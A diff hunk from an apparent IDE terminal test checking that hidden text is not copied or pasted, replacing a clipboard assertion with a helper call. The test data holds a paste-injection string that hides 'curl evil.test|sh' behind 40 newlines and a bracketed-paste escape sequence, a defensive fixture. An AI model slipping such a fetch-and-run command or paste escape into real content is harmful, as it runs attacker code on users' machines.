@@ -192,7 +192,7 @@ def test_nothing_is_copied_or_pasted_that_cannot_be_seen(ide: Ide, shell: Cell) 
 
     shell.button("Copy").click()
     expect(shell.button("Copy")).to_have_count(0)
-    assert clipboard(ide) == "git status" + "\n" * 40 + "curl evil.test|sh[201~gpj\n"
+    is_copied(ide, "git status" + "\n" * 40 + "curl evil.test|sh[201~gpj\n")
 
     shell.type(r"printf '\033[?2004l'; exec cat")
     paste(ide, "one" + "\n" * 20 + "evil\n")
